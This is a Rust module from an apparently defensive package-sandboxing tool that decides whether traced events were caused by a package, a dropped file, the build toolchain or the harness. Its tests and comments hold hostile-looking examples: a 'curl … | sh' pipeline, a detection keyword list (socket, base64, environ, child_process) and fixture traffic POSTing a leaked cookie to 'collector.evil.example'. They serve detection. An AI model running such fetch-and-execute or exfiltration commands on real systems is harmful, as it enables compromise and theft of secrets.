//! Who acted: every event of a trace is attributed to the package's own code, a file it
//! dropped, the package manager / build toolchain, or airlock's own harness (DESIGN.md,
//! "Verdict model"). Only package- and dropped-file events make findings; a toolchain
//! program counts as the package's where the package's inputs steered it (a `.gyp`
//! action or Makefile recipe that runs `curl | sh`, a `setup.py` that shells out, a
//! compiler run on a file the package downloaded); harness events never count.
//!
//! The one place this is decided is [`Attributor::attribute`], fed the events of a trace
//! in order ([`attribute_trace`] does a whole trace in memory). It lives with the schema
//! (no dependencies) so that the engine can stamp events as it writes the trace without
//! depending on the rule engine, and the rule engine recomputes it when judging. It looks only backwards
//! (process ancestry from `process.start`/`process.exec`, the lifecycle script, the argv
//! of each exec, the files written so far, the hosts processes contacted, the harness
//! paths and the decoy's name from the header), so the rule engine runs it while a
//! stored trace streams past and the engine can stamp events as it writes them: both
//! give the same answer.

use std::collections::HashMap;

use crate::{Actor, Event, EventKind, Source, Trace, TraceHeader};

/// Processes, written files and hosts remembered; past these, new entries are dropped
/// (their events fall back to what the `ProcRef` itself says).
const MAX_PROCS: usize = 200_000;
const MAX_WRITTEN: usize = 200_000;
const MAX_HOSTS: usize = 50_000;

/// Where airlock's own helpers live inside the sandbox (`/usr/local/lib/devtools/` since
/// issue 16 moved them out of a directory named after the tool; `/opt/airlock/` in traces
/// recorded before, which `airlock judge`/`rejudge` still read).
const HARNESS_DIRS: &[&str] = &["/usr/local/lib/devtools/", "/opt/airlock/", "/run/airlock/"];
/// Harness scripts inside which the package's code runs (`require`/`import` of it): the
/// process hosts the package, only its own start and the harness's calls are harness.
const IMPORT_HOSTS: &[&str] = &[
    "/usr/local/lib/devtools/bin/import-npm.js",
    "/usr/local/lib/devtools/bin/import-py.py",
    // node has no fork: the npm exercise harness calls every export in its own process.
    "/usr/local/lib/devtools/bin/exercise-npm.js",
    "/opt/airlock/bin/import-npm.js",
    "/opt/airlock/bin/import-py.py",
    "/opt/airlock/bin/exercise-npm.js",
];
/// Exercise harnesses: the process that enumerates and schedules calls is the harness's
/// own; only its per-module children (argv with [`EXERCISE_HOST_FLAG`]) host the
/// package's code, and so do the processes they fork, one per call (the engine labels
/// each call's events, `proc.lifecycle = "exercise: module.name"`).
const EXERCISE_HARNESSES: &[&str] = &[
    "/usr/local/lib/devtools/bin/exercise-py.py",
    "/opt/airlock/bin/exercise-py.py",
];
/// The header note listing the hosts the exercise harness used in arguments.
pub const EXERCISE_HOSTS_NOTE: &str = "exercise_hosts";
/// The argument that makes an exercise harness process a host of the package's code.
pub const EXERCISE_HOST_FLAG: &str = "--module";
/// An argument the decoy runner process carries (airlock-bait's decoy).
const DECOY_MARK: &str = "spawnclient 111 114";

/// Package managers (basenames): the toolchain when the phase runner or another tool
/// started them; the package's own act when its code did (`npm publish` in a
/// postinstall, `git push` from setup.py).
const PACKAGE_MANAGERS: &[&str] = &[
    "npm",
    "npx",
    "npm-cli.js",
    "npx-cli.js",
    "yarn",
    "yarnpkg",
    "pnpm",
    "corepack",
    "pip",
    "pip3",
    "pip3.11",
    "pip3.12",
    "uv",
    "git",
    "ssh",
];
/// Build tools (basenames): the toolchain whoever started them; what they run that is not
/// a build tool itself is steered by the package's inputs (a .gyp action, a recipe).
const BUILD_TOOLS: &[&str] = &[
    "node-gyp",
    "node-gyp.js",
    "node-gyp-build",
    "make",
    "gmake",
    "cmake",
    "ninja",
    "meson",
    "scons",
    "libtool",
    "autoreconf",
    "cc",
    "gcc",
    "g++",
    "c++",
    "cpp",
    "clang",
    "clang++",
    "cc1",
    "cc1plus",
    "collect2",
    "ld",
    "ld.bfd",
    "ld.gold",
    "ld.lld",
    "lld",
    "as",
    "ar",
    "ranlib",
    "strip",
    "objcopy",
    "nm",
    "gfortran",
    "f951",
    "rustc",
    "cargo",
    "cython",
    "pkg-config",
    "pkgconf",
];
/// Shell words that do nothing on their own (a recipe `cd build && make` is make's).
const SHELL_NOOPS: &[&str] = &[
    "cd", "true", ":", "exit", "set", "export", "echo", "printf", "test", "[", "exec",
];
/// File utilities a build recipe runs next to the compiler (`mkdir -p out && cc …`).
const BUILD_HELPERS: &[&str] = &[
    "mkdir", "rm", "cp", "ln", "touch", "flock", "mv", "install", "chmod", "sed",
];
/// What a build tool asks of the system while it configures itself.
const TOOLCHAIN_PROBES: &[&str] = &[
    "uname",
    "which",
    "getconf",
    "ldconfig",
    "nproc",
    "arch",
    "lsb_release",
    "sysctl",
];
/// Where toolchain code lives; a hook line whose caller is here is the toolchain's.
const TOOLCHAIN_CALLERS: &[&str] = &[
    "/node_modules/npm/",
    "/node-gyp/",
    "/site-packages/pip/",
    "/site-packages/setuptools/",
    "/site-packages/_distutils_hack/",
    "/site-packages/pkg_resources/",
    "/site-packages/wheel/",
    "/lib/python3/dist-packages/pip/",
];
/// Caches the toolchain writes into (fs diff entries there are its own).
const TOOLCHAIN_CACHES: &[&str] = &["/.npm/", "/.cache/pip/", "/.cache/node-gyp/", "/.node-gyp/"];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct ProcState {
    actor: Actor,
    /// An import-harness process: the package's code runs in it, but the interpreters
    /// it starts for itself (`python -c pass`, to fire `.pth` files) are the harness's.
    host: bool,
}

/// Streaming attribution of one trace's events (see the module docs).
#[derive(Debug)]
pub struct Attributor {
    procs: HashMap<u32, ProcState>,
    /// Files written during the run, with who wrote them last.
    written: HashMap<String, Actor>,
    /// Hosts (names and addresses) processes contacted, with the most package-like actor.
    hosts: HashMap<String, Actor>,
    /// Actor of network events by seq, for `canary.leaked` (`carrier_seq`).
    carriers: HashMap<u64, Actor>,
    decoy: Option<String>,
    /// Hosts the exercise harness handed to the package's functions as arguments (URLs,
    /// host names, e-mail domains; header note `exercise_hosts`), and the addresses they
    /// resolved to: traffic there is the call doing what the harness asked (an HTTP
    /// client fetching the URL it is given), so it is the harness's, never a finding.
    exercise_hosts: Vec<String>,
    exercise_addrs: std::collections::HashSet<String>,
    /// The package's own folder (with a trailing `/`).
    package_dir: Option<String>,
    manager_hosts: Vec<String>,
}

/// The registries whose install-phase traffic is the package manager's when no package
/// process contacted them (the rule engine passes `rules/lists/package-manager-hosts.txt`).
pub const DEFAULT_MANAGER_HOSTS: &[&str] = &[
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "npmjs.com",
    "pypi.org",
    "pypi.python.org",
    "files.pythonhosted.org",
];

/// Attributes every event of an in-memory trace, overwriting any stored attribution.
pub fn attribute_trace(trace: &mut Trace, manager_hosts: &[String]) {
    let mut a = Attributor::new(&trace.header, manager_hosts);
    for ev in &mut trace.events {
        ev.actor = Some(a.attribute(ev));
    }
}

fn basename(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

/// `a` merged with `b`: the package's own code wins over the toolchain over the harness.
fn stronger(a: Actor, b: Actor) -> Actor {
    let rank = |x: Actor| match x {
        Actor::Dropped => 3,
        Actor::Package => 2,
        Actor::Toolchain => 1,
        Actor::Harness => 0,
    };
    if rank(b) > rank(a) {
        b
    } else {
        a
    }
}

fn is_shell(prog: &str) -> bool {
    matches!(
        prog,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "busybox"
    )
}

fn is_python(prog: &str) -> bool {
    prog.starts_with("python")
}

fn build_tool(prog: &str) -> bool {
    BUILD_TOOLS.contains(&prog)
        || prog.strip_prefix("x86_64-linux-gnu-").is_some_and(|rest| {
            BUILD_TOOLS
                .iter()
                .any(|t| rest == *t || rest.starts_with(&format!("{t}-")))
        })
        || prog.starts_with("gcc-")
        || prog.starts_with("g++-")
        || prog.starts_with("clang-")
}

fn package_manager(prog: &str) -> bool {
    PACKAGE_MANAGERS.contains(&prog)
}

/// Code given to `python -c` / `node -e` that only asks the interpreter about itself
/// (node-gyp finding Python, a build probing the version).
fn trivial_probe(code: &str) -> bool {
    let c = code.to_ascii_lowercase();
    let risky = [
        "socket",
        "subprocess",
        "system",
        "popen",
        "urllib",
        "request",
        "http",
        "exec",
        "eval",
        "b64",
        "base64",
        "open(",
        "environ",
        "child_process",
        "require(",
    ];
    c.len() < 400 && !risky.iter().any(|r| c.contains(r))
}

/// The command words of a `sh -c` string: the first word of every pipeline segment,
/// after leading variable assignments.
fn command_words(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut seg = String::new();
    let mut flush = |seg: &mut String| {
        let w = seg
            .split_whitespace()
            .find(|w| !(w.contains('=') && !w.starts_with('=') && !w.starts_with('-')))
            .map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == ')'));
        if let Some(w) = w {
            out.push(basename(w).to_string());
        }
        seg.clear();
    };
    let cmd = cmd.replace("$(", ";");
    for ch in cmd.chars() {
        if matches!(ch, ';' | '&' | '|' | '\n' | '`' | '(' | ')') {
            flush(&mut seg);
        } else {
            seg.push(ch);
        }
    }
    flush(&mut seg);
    out
}

impl Attributor {
    /// [`Attributor::new`] with [`DEFAULT_MANAGER_HOSTS`]: what the engine uses while it
    /// writes a trace.
    pub fn for_header(header: &TraceHeader) -> Attributor {
        let hosts: Vec<String> = DEFAULT_MANAGER_HOSTS
            .iter()
            .map(|h| h.to_string())
            .collect();
        Attributor::new(header, &hosts)
    }

    /// An attributor for a trace with this header; `manager_hosts` are the registries
    /// (rules/lists/package-manager-hosts.txt) whose traffic is the package manager's.
    pub fn new(header: &TraceHeader, manager_hosts: &[String]) -> Attributor {
        Attributor {
            procs: HashMap::new(),
            written: HashMap::new(),
            hosts: HashMap::new(),
            carriers: HashMap::new(),
            decoy: header.notes.get("decoy_process").cloned(),
            exercise_hosts: header
                .notes
                .get(EXERCISE_HOSTS_NOTE)
                .map(|v| {
                    v.split(',')
                        .map(|h| h.trim().trim_end_matches('.').to_ascii_lowercase())
                        .filter(|h| h.contains('.'))
                        .collect()
                })
                .unwrap_or_default(),
            exercise_addrs: Default::default(),
            package_dir: header
                .package_dir
                .as_ref()
                .map(|d| format!("{}/", d.trim_end_matches('/'))),
            manager_hosts: manager_hosts
                .iter()
                .map(|h| h.trim_end_matches('.').to_ascii_lowercase())
                .collect(),
        }
    }

    /// A file the package manager itself wrote into another package's folder under
    /// `node_modules` (installing a dependency): the toolchain's. The package's own folder,
    /// `node_modules/.bin` links and files the package's code wrote stay the package's.
    fn toolchain_installed_dependency(&self, path: &str) -> bool {
        self.written.get(path) == Some(&Actor::Toolchain)
            && path.contains("/node_modules/")
            && !path.contains("/node_modules/.bin/")
            && !self
                .package_dir
                .as_deref()
                .is_some_and(|d| path.starts_with(d))
    }

    fn is_manager_host(&self, host: &str) -> bool {
        let h = host.trim_end_matches('.').to_ascii_lowercase();
        self.manager_hosts.iter().any(|d| {
            h == *d
                || (h.len() > d.len()
                    && h.ends_with(d.as_str())
                    && h[..h.len() - d.len()].ends_with('.'))
        })
    }

    /// A host (name or address) the exercise harness handed to the package.
    fn is_exercise_host(&self, host: &str) -> bool {
        if self.exercise_hosts.is_empty() {
            return false;
        }
        let h = host.trim_end_matches('.').to_ascii_lowercase();
        let h = h.split(':').next().unwrap_or(&h).to_string();
        self.exercise_addrs.contains(&h)
            || self.exercise_hosts.iter().any(|d| {
                h == *d
                    || (h.len() > d.len()
                        && h.ends_with(d.as_str())
                        && h[..h.len() - d.len()].ends_with('.'))
            })
    }

    /// What a process with no recorded start is: what its `ProcRef` says.
    fn fallback(ev: &Event) -> ProcState {
        let p = ev.proc.as_ref();
        let chain_harness = p.is_some_and(|p| {
            p.chain.last().is_some_and(|c| {
                HARNESS_DIRS.iter().any(|d| c.contains(d))
                    && !IMPORT_HOSTS.iter().any(|h| c.contains(basename(h)))
                    && !(EXERCISE_HARNESSES.iter().any(|h| c.contains(basename(h)))
                        && c.contains(EXERCISE_HOST_FLAG))
            })
        });
        let actor = if chain_harness {
            Actor::Harness
        } else if p.is_some_and(|p| p.lifecycle.is_some()) || ev.phase != "install" {
            Actor::Package
        } else {
            Actor::Toolchain
        };
        ProcState { actor, host: false }
    }

    /// The state of the event's process, and whether it (or its parent) was recorded
    /// rather than guessed from the `ProcRef`.
    fn state_of(&self, ev: &Event) -> (ProcState, bool) {
        let Some(p) = &ev.proc else {
            return (
                ProcState {
                    actor: Actor::Package,
                    host: false,
                },
                false,
            );
        };
        if let Some(s) = self.procs.get(&p.pid) {
            return (*s, true);
        }
        if let Some(s) = p.ppid.and_then(|pp| self.procs.get(&pp)) {
            return (*s, true);
        }
        (Self::fallback(ev), false)
    }

    fn set_proc(&mut self, pid: u32, s: ProcState) {
        if self.procs.len() < MAX_PROCS || self.procs.contains_key(&pid) {
            self.procs.insert(pid, s);
        }
    }

    fn package_wrote(&self, path: &str) -> Option<Actor> {
        self.written.get(path).copied().filter(|a| a.is_package())
    }

    /// Who an exec is, and what the process runs as afterwards.
    fn classify_exec(
        &self,
        path: &str,
        argv: &[String],
        cwd: Option<&str>,
        parent: ProcState,
        parent_known: bool,
        lifecycle: bool,
    ) -> (Actor, ProcState) {
        let prog = argv
            .first()
            .map(|a| basename(a))
            .filter(|a| !a.is_empty())
            .unwrap_or_else(|| basename(path));
        let exe = basename(path);
        let text = argv.join(" ");
        let st = |actor| ProcState { actor, host: false };
        // airlock's own helpers; the import scripts host the package's code.
        if HARNESS_DIRS
            .iter()
            .any(|d| path.starts_with(d) || text.contains(d))
        {
            let hosts = (IMPORT_HOSTS.iter().any(|h| argv.iter().any(|a| a == h))
                && !argv.iter().any(|a| a == "--unpack"))
                || (EXERCISE_HARNESSES
                    .iter()
                    .any(|h| argv.iter().any(|a| a == h))
                    && argv.iter().any(|a| a == EXERCISE_HOST_FLAG));
            if hosts {
                return (
                    Actor::Harness,
                    ProcState {
                        actor: Actor::Package,
                        host: true,
                    },
                );
            }
            return (Actor::Harness, st(Actor::Harness));
        }
        // The import harness's own plain interpreter start (its `.pth` files still run
        // as the package's).
        if parent.host && is_python(prog) && argv.len() == 3 && argv[1] == "-c" && argv[2] == "pass"
        {
            return (Actor::Harness, st(Actor::Package));
        }
        if text.contains(DECOY_MARK)
            || self.decoy.as_deref().is_some_and(|d| {
                !d.is_empty() && (prog == d || exe == d || text.contains(&format!("/{d} ")))
            })
        {
            return (Actor::Harness, st(Actor::Harness));
        }
        // A file the package wrote or downloaded: the program itself, or what it runs.
        let resolve = |a: &str| -> Option<String> {
            if a.starts_with('/') {
                Some(a.to_string())
            } else if !a.starts_with('-') && a.contains('/')
                || a.ends_with(".sh")
                || a.ends_with(".py")
                || a.ends_with(".js")
            {
                cwd.map(|c| format!("{}/{}", c.trim_end_matches('/'), a.trim_start_matches("./")))
            } else {
                None
            }
        };
        let dropped = self.package_wrote(path).is_some()
            || argv
                .iter()
                .skip(1)
                .take(16)
                .filter_map(|a| resolve(a))
                .any(|a| self.package_wrote(&a).is_some());
        if dropped {
            return (Actor::Dropped, st(Actor::Dropped));
        }
        // Build tools, and package managers the runner or another tool started.
        let build_script = argv.iter().take(3).any(|a| {
            a.contains("/node-gyp/")
                || a.contains("/gyp/gyp_main.py")
                || a.ends_with("/gyp_main.py")
        });
        // A package manager run as an interpreter's script: `node /usr/bin/npm …` is what
        // an `env node` shebang makes of `npm …` (the same process execs again).
        let pm_script = argv.iter().take(3).any(|a| {
            a.contains("/node_modules/npm/")
                || a.ends_with("/npm-cli.js")
                || a.ends_with("/npx-cli.js")
        }) || ((prog == "node" || is_python(prog))
            && argv
                .get(1)
                .is_some_and(|a| a.starts_with('/') && package_manager(basename(a))));
        let python_module = is_python(prog)
            && argv.windows(2).any(|w| {
                w[0] == "-m" && matches!(w[1].as_str(), "pip" | "build" | "wheel" | "ensurepip")
            });
        let parent_tool = matches!(parent.actor, Actor::Toolchain | Actor::Harness);
        let interp_code = argv
            .windows(2)
            .find(|w| w[0] == "-c" || w[0] == "-e" || w[0] == "--eval" || w[0] == "-p")
            .map(|w| w[1].as_str());
        let probe = parent_tool
            && (TOOLCHAIN_PROBES.contains(&prog)
                || ((is_python(prog) || prog == "node") && interp_code.is_some_and(trivial_probe)));
        if build_tool(prog) || build_tool(exe) || build_script || probe {
            return (Actor::Toolchain, st(Actor::Toolchain));
        }
        let pm = package_manager(prog) || package_manager(exe) || pm_script || python_module;
        if pm && parent_tool {
            return (Actor::Toolchain, st(Actor::Toolchain));
        }
        // `sh -c "…"` that only runs build tools (`node-gyp rebuild`, a make recipe), or
        // the runner's `npm ci && npm rebuild` (package managers, outside any lifecycle
        // script).
        if is_shell(prog) && !pm {
            if let Some(cmd) = interp_code {
                let words = command_words(cmd);
                let pm_ok = parent_tool && !lifecycle;
                let tool = |w: &str| build_tool(w) || (pm_ok && package_manager(w));
                let toolish = words.iter().any(|w| tool(w))
                    && words.iter().all(|w| {
                        tool(w)
                            || SHELL_NOOPS.contains(&w.as_str())
                            || BUILD_HELPERS.contains(&w.as_str())
                    });
                if toolish {
                    return (Actor::Toolchain, st(Actor::Toolchain));
                }
            }
        }
        if !parent_known {
            // No recorded ancestry: the process is what its own ProcRef says.
            return (parent.actor, parent);
        }
        match parent.actor {
            // Started by the phase runner: the package's only when it runs package code
            // (setup.py run directly after pip failed); else the runner's own tools.
            Actor::Harness => {
                let setup =
                    lifecycle || argv.iter().skip(1).take(3).any(|a| a.ends_with("setup.py"));
                let a = if setup {
                    Actor::Package
                } else {
                    Actor::Harness
                };
                (a, st(a))
            }
            // Run by a package manager or build tool but not one itself: the package's
            // lifecycle script, or a command its inputs (a .gyp action, a Makefile
            // recipe, setup.py) asked for.
            Actor::Toolchain => (Actor::Package, st(Actor::Package)),
            a => (a, st(a)),
        }
    }

    fn note_host(&mut self, host: &str, actor: Actor) {
        let h = host.trim_end_matches('.').to_ascii_lowercase();
        if h.is_empty() {
            return;
        }
        if let Some(a) = self.hosts.get_mut(&h) {
            *a = stronger(*a, actor);
        } else if self.hosts.len() < MAX_HOSTS {
            self.hosts.insert(h, actor);
        }
    }

    /// Who sent or received a sink-side network event: the processes that contacted the
    /// host; else, in the install phase, the package manager for its registries.
    fn network_actor(&self, ev: &Event, host: Option<&str>) -> Actor {
        if host.is_some_and(|h| self.is_exercise_host(h)) {
            return Actor::Harness;
        }
        if let Some(h) = host {
            let key = h.trim_end_matches('.').to_ascii_lowercase();
            let key = key.split(':').next().unwrap_or(&key).to_string();
            if let Some(a) = self.hosts.get(&key) {
                return *a;
            }
            if ev.phase == "install" && self.is_manager_host(&key) {
                return Actor::Toolchain;
            }
        }
        Actor::Package
    }

    fn remember_write(&mut self, path: &str, actor: Actor) {
        if self.written.contains_key(path) || self.written.len() < MAX_WRITTEN {
            self.written.insert(path.to_string(), actor);
        }
    }

    /// Who acted in `ev`; call once per event, in trace order.
    pub fn attribute(&mut self, ev: &Event) -> Actor {
        let actor = self.attribute_inner(ev);
        if matches!(
            ev.kind,
            EventKind::HttpRequest { .. }
                | EventKind::NetData { .. }
                | EventKind::DnsQuery { .. }
                | EventKind::NetConnection { .. }
                | EventKind::TlsHandshake { .. }
                | EventKind::NetSendto { .. }
                | EventKind::FileOpen { .. }
                | EventKind::FileWrite { .. }
        ) && self.carriers.len() < MAX_HOSTS
        {
            self.carriers.insert(ev.seq, actor);
        }
        actor
    }

    fn attribute_inner(&mut self, ev: &Event) -> Actor {
        match &ev.kind {
            EventKind::PhaseStart { .. } | EventKind::PhaseEnd { .. } | EventKind::Note { .. } => {
                return Actor::Harness
            }
            EventKind::StaticSignal { .. } => return Actor::Package,
            EventKind::LimitHit { .. } => return Actor::Package,
            _ => {}
        }
        if ev.proc.is_none() {
            return self.attribute_unowned(ev);
        }
        let (state, known) = self.state_of(ev);
        let pid = ev.pid().unwrap_or(0);
        match &ev.kind {
            EventKind::ProcessStart { pid: child, ppid } => {
                let parent = self.procs.get(ppid).copied().unwrap_or(state);
                self.set_proc(*child, parent);
                parent.actor
            }
            EventKind::ProcessExec {
                path,
                argv,
                cwd,
                outcome,
                ..
            } => {
                let lifecycle = ev.proc.as_ref().is_some_and(|p| p.lifecycle.is_some());
                let (actor, after) =
                    self.classify_exec(path, argv, cwd.as_deref(), state, known, lifecycle);
                if outcome.is_ok() {
                    self.set_proc(pid, after);
                } else if !self.procs.contains_key(&pid) {
                    self.set_proc(pid, state);
                }
                actor
            }
            EventKind::Hook { args, .. } => {
                if !self.procs.contains_key(&pid) {
                    self.set_proc(pid, state);
                }
                let caller = args.get("caller").and_then(|c| c.as_str()).unwrap_or("");
                if HARNESS_DIRS.iter().any(|d| caller.starts_with(d)) {
                    Actor::Harness
                } else if state.actor.is_package()
                    && TOOLCHAIN_CALLERS.iter().any(|d| caller.contains(d))
                {
                    Actor::Toolchain
                } else {
                    state.actor
                }
            }
            EventKind::NetSendto { dns: Some(q), .. } if self.is_exercise_host(&q.name) => {
                if !self.procs.contains_key(&pid) {
                    self.set_proc(pid, state);
                }
                Actor::Harness
            }
            EventKind::NetConnect { addr, name, .. }
                if name.as_deref().is_some_and(|n| self.is_exercise_host(n))
                    || self.is_exercise_host(addr) =>
            {
                if !self.procs.contains_key(&pid) {
                    self.set_proc(pid, state);
                }
                if self.exercise_addrs.len() < MAX_HOSTS {
                    self.exercise_addrs.insert(addr.to_ascii_lowercase());
                }
                Actor::Harness
            }
            _ => {
                if !self.procs.contains_key(&pid) {
                    self.set_proc(pid, state);
                }
                let actor = match ev.kind.file() {
                    Some((p, _)) if HARNESS_DIRS.iter().any(|d| p.starts_with(d)) => Actor::Harness,
                    _ => state.actor,
                };
                self.track_effects(ev, actor);
                actor
            }
        }
    }

    /// Files written and hosts contacted by a process event.
    fn track_effects(&mut self, ev: &Event, actor: Actor) {
        match &ev.kind {
            EventKind::FileOpen {
                path,
                write,
                create,
                outcome,
                ..
            } if (*write || *create) && outcome.is_ok() => self.remember_write(path, actor),
            EventKind::FileWrite { path, .. } => self.remember_write(path, actor),
            EventKind::FileRename { from, to, outcome } if outcome.is_ok() => {
                let a = self
                    .written
                    .get(from)
                    .map_or(actor, |w| stronger(*w, actor));
                self.remember_write(to, a);
            }
            EventKind::FileSymlink { link, outcome, .. } if outcome.is_ok() => {
                self.remember_write(link, actor)
            }
            EventKind::NetConnect { addr, name, .. } => {
                self.note_host(addr, actor);
                if let Some(n) = name {
                    self.note_host(n, actor);
                }
            }
            EventKind::NetSendto { addr, dns, .. } => {
                self.note_host(addr, actor);
                if let Some(q) = dns {
                    self.note_host(&q.name, actor);
                }
            }
            _ => {}
        }
    }

    /// Events no process is named for: sink traffic, fs diff, post-run analysis.
    fn attribute_unowned(&mut self, ev: &Event) -> Actor {
        match &ev.kind {
            EventKind::DnsQuery { name, .. } => self.network_actor(ev, Some(name)),
            EventKind::NetConnection { name, dst_addr, .. } => {
                let by_name = name.as_deref().map(|n| self.network_actor(ev, Some(n)));
                match by_name {
                    Some(a) if a != Actor::Package || self.hosts.contains_key(&n_key(name)) => a,
                    _ => self.network_actor(ev, Some(dst_addr)),
                }
            }
            EventKind::TlsHandshake { sni, .. } => self.network_actor(ev, sni.as_deref()),
            EventKind::HttpRequest { host, .. } => self.network_actor(ev, Some(host)),
            EventKind::NetData { dst_addr, .. } => self.network_actor(ev, Some(dst_addr)),
            EventKind::CanaryLeaked {
                destination,
                carrier_seq,
                ..
            } => {
                let host = destination_host(destination);
                if host.is_some_and(|h| self.is_exercise_host(h)) {
                    return Actor::Harness;
                }
                let carrier = carrier_seq.and_then(|s| self.carriers.get(&s).copied());
                match carrier {
                    Some(Actor::Harness) => Actor::Harness,
                    // The package manager sending its configured token to its registry
                    // is the credential's own service; anywhere else, the package's
                    // inputs sent it there.
                    Some(Actor::Toolchain) if host.is_some_and(|h| self.is_manager_host(h)) => {
                        Actor::Toolchain
                    }
                    Some(a) if a.is_package() => a,
                    _ => Actor::Package,
                }
            }
            // What the filesystem diff saw change: the harness's own files are its; the
            // package manager's caches are the toolchain's; anything else landed there
            // because of the package (its own writes, or the package manager installing
            // what its archive declares: a console script named `pip`, a `.pth` file).
            EventKind::FsChange { path, .. } => {
                if HARNESS_DIRS.iter().any(|d| path.starts_with(d))
                    || self.written.get(path.as_str()) == Some(&Actor::Harness)
                {
                    Actor::Harness
                } else if TOOLCHAIN_CACHES.iter().any(|d| path.contains(d))
                    || self.toolchain_installed_dependency(path)
                {
                    Actor::Toolchain
                } else {
                    match self.written.get(path.as_str()) {
                        Some(a) if a.is_package() => *a,
                        _ => Actor::Package,
                    }
                }
            }
            _ if ev.source == Source::Sandbox => Actor::Harness,
            _ => Actor::Package,
        }
    }
}

fn n_key(name: &Option<String>) -> String {
    name.as_deref()
        .unwrap_or("")
        .trim_end_matches('.')
        .to_ascii_lowercase()
}

/// The host of a `canary.leaked` destination (`https://host/path`, `dns:name`,
/// `tcp:addr:port`, `file:/path`).
fn destination_host(d: &str) -> Option<&str> {
    if let Some(rest) = d.split_once("://").map(|(_, r)| r) {
        return rest
            .split(['/', '?', '#'])
            .next()
            .map(|h| h.split(':').next().unwrap_or(h));
    }
    if let Some(n) = d.strip_prefix("dns:") {
        return Some(n);
    }
    if let Some(t) = d.strip_prefix("tcp:") {
        return t.rsplit_once(':').map(|(a, _)| a);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_words_of_recipes() {
        assert_eq!(command_words("cd build && make -j2"), vec!["cd", "make"]);
        assert_eq!(command_words("curl -s http://x | sh"), vec!["curl", "sh"]);
        assert_eq!(command_words("CC=gcc node-gyp rebuild"), vec!["node-gyp"]);
    }

    /// The exercise harness: its scheduler is the harness; its per-module child (and the
    /// process it forks for each call) hosts the package's code.
    #[test]
    fn exercise_scheduler_is_harness_and_its_module_children_host_the_package() {
        let header: TraceHeader = serde_json::from_str(
            r#"{"schema_version":1,"run_id":"r","started_at":0,"package":{"name":"p","version":"1"},"tool_version":"0"}"#,
        )
        .unwrap();
        let lines = [
            r#"{"seq":0,"ts":1,"phase":"exercise","source":"strace","proc":{"pid":10,"exe":"python3"},"type":"process.exec","path":"/work/.venv/bin/python","argv":["python","/opt/airlock/bin/exercise-py.py","p","4000"],"outcome":"ok"}"#,
            r#"{"seq":1,"ts":1,"phase":"exercise","source":"strace","proc":{"pid":10,"exe":"python3"},"type":"file.open","path":"/tmp/scratch/notes.txt","flags":"O_WRONLY|O_CREAT","write":true,"create":true,"outcome":"ok"}"#,
            r#"{"seq":2,"ts":1,"phase":"exercise","source":"strace","proc":{"pid":10,"exe":"python3"},"type":"process.start","pid":11,"ppid":10}"#,
            r#"{"seq":3,"ts":1,"phase":"exercise","source":"strace","proc":{"pid":11,"ppid":10,"exe":"python3"},"type":"process.exec","path":"/work/.venv/bin/python","argv":["python","/opt/airlock/bin/exercise-py.py","--module","wallet_utils"],"outcome":"ok"}"#,
            r#"{"seq":4,"ts":1,"phase":"exercise","source":"strace","proc":{"pid":11,"ppid":10,"exe":"python3"},"type":"process.start","pid":12,"ppid":11}"#,
            r#"{"seq":5,"ts":1,"phase":"exercise","source":"strace","proc":{"pid":12,"ppid":11,"exe":"python3"},"type":"net.connect","family":"AF_INET","addr":"198.18.0.5","port":443,"outcome":"ok"}"#,
        ];
        let mut a = Attributor::for_header(&header);
        let actors: Vec<Actor> = lines
            .iter()
            .map(|l| a.attribute(&serde_json::from_str::<Event>(l).unwrap()))
            .collect();
        assert_eq!(
            actors,
            [
                Actor::Harness,
                Actor::Harness,
                Actor::Harness,
                Actor::Harness,
                Actor::Package,
                Actor::Package
            ]
        );
    }

    /// Traffic to the host the exercise harness handed over as an argument (an HTTP
    /// client fetching the URL it is given) is the harness's; the package's own host stays
    /// the package's.
    #[test]
    fn traffic_to_the_exercise_hosts_is_the_harness() {
        let header: TraceHeader = serde_json::from_str(
            r#"{"schema_version":1,"run_id":"r","started_at":0,"package":{"name":"p","version":"1"},"tool_version":"0","notes":{"exercise_hosts":"api.harbor-ledger.com"}}"#,
        )
        .unwrap();
        let lines = [
            r#"{"seq":0,"ts":1,"phase":"exercise","source":"strace","proc":{"pid":12,"ppid":11,"exe":"python3","lifecycle":"exercise: requests.get"},"type":"net.connect","family":"AF_INET","addr":"198.18.0.1","port":443,"name":"api.harbor-ledger.com","outcome":"ok"}"#,
            r#"{"seq":1,"ts":2,"phase":"exercise","source":"sink","type":"http.request","conn_id":1,"method":"GET","url":"https://api.harbor-ledger.com/v1/items","host":"api.harbor-ledger.com","path":"/v1/items","headers":[],"body":"","body_bytes":0,"tls":true}"#,
            r#"{"seq":2,"ts":3,"phase":"exercise","source":"analysis","type":"canary.leaked","canary_id":"arg-exercise-cookie","kind":"cookie","encoding":"plain","destination":"https://198.18.0.1/v1/items"}"#,
            r#"{"seq":3,"ts":4,"phase":"exercise","source":"strace","proc":{"pid":12,"ppid":11,"exe":"python3"},"type":"net.connect","family":"AF_INET","addr":"198.18.0.2","port":443,"name":"collector.evil.example","outcome":"ok"}"#,
            r#"{"seq":4,"ts":5,"phase":"exercise","source":"sink","type":"http.request","conn_id":2,"method":"POST","url":"https://collector.evil.example/k","host":"collector.evil.example","path":"/k","headers":[],"body":"x","body_bytes":1,"tls":true}"#,
        ];
        let mut a = Attributor::for_header(&header);
        let actors: Vec<Actor> = lines
            .iter()
            .map(|l| a.attribute(&serde_json::from_str::<Event>(l).unwrap()))
            .collect();
        assert_eq!(
            actors,
            [
                Actor::Harness,
                Actor::Harness,
                Actor::Harness,
                Actor::Package,
                Actor::Package
            ]
        );
    }

    #[test]
    fn destinations() {
        assert_eq!(
            destination_host("https://evil.example/x"),
            Some("evil.example")
        );
        assert_eq!(destination_host("dns:a.b.c"), Some("a.b.c"));
        assert_eq!(destination_host("tcp:1.2.3.4:443"), Some("1.2.3.4"));
        assert_eq!(destination_host("file:/tmp/x"), None);
    }
}
